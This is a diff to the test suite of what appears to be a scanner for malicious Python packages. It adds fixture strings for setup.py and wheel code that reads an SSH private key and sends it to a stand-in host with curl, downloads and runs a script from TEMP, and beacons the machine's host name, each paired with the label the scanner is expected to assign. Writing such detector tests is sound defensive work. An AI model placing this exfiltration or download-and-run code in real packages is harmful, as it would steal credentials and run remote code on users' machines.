@@ -206,6 +206,35 @@ except Exception:
     pass
 setup(name="demo")
 """
+CURL_SENDS_KEY_SETUP = """\
+import os, subprocess
+from setuptools import setup
+key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+subprocess.check_output(["curl", "https://collect.example/?k=" + key])
+setup(name="demo")
+"""
+REUSED_HANDLE = """\
+import os, urllib.request
+path = os.getenv("TEMP") + "/helper.dat"
+with open(path, "w") as f:
+    f.write(urllib.request.urlopen("https://files.example/s.txt").read().decode())
+os.system(f"start pythonw {path}")
+log = os.path.join(os.getenv("TEMP"), "log.txt")
+with open(log, "w") as f:
+    f.write("done")
+"""
+FQDN_BEACON = """\
+import json, socket, urllib.request
+
+def attempt(func):
+    try:
+        return func()
+    except Exception:
+        return ""
+
+data = json.dumps({"h": attempt(socket.getfqdn)})
+urllib.request.urlopen("https://collect.example/?d=" + data)
+"""
 MALICIOUS_PTH = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
 
 # Legitimate packages do all of these every day; none may be flagged.
@@ -446,6 +475,27 @@ CASES = [
         True,
     ),
     ("mistyped urlretrieve", _sdist(MISTYPED_FETCH_SETUP), "demo-1.0.tar.gz", "download-run", True),
+    (
+        "secret sent by curl",
+        _sdist(CURL_SENDS_KEY_SETUP),
+        "demo-1.0.tar.gz",
+        "credential-exfil",
+        True,
+    ),
+    (
+        "file object name reused for a second file",
+        wheel({"demo/__init__.py": REUSED_HANDLE}),
+        "demo-1.0-py3-none-any.whl",
+        "drop-run",
+        True,
+    ),
+    (
+        "fully qualified host name sent",
+        wheel({"demo/__init__.py": FQDN_BEACON}),
+        "d.whl",
+        "phone-home",
+        True,
+    ),
     (
         "bundled executable",
         _sdist("from setuptools import setup\nsetup()\n", **{"bin/payload.exe": "MZ"}),
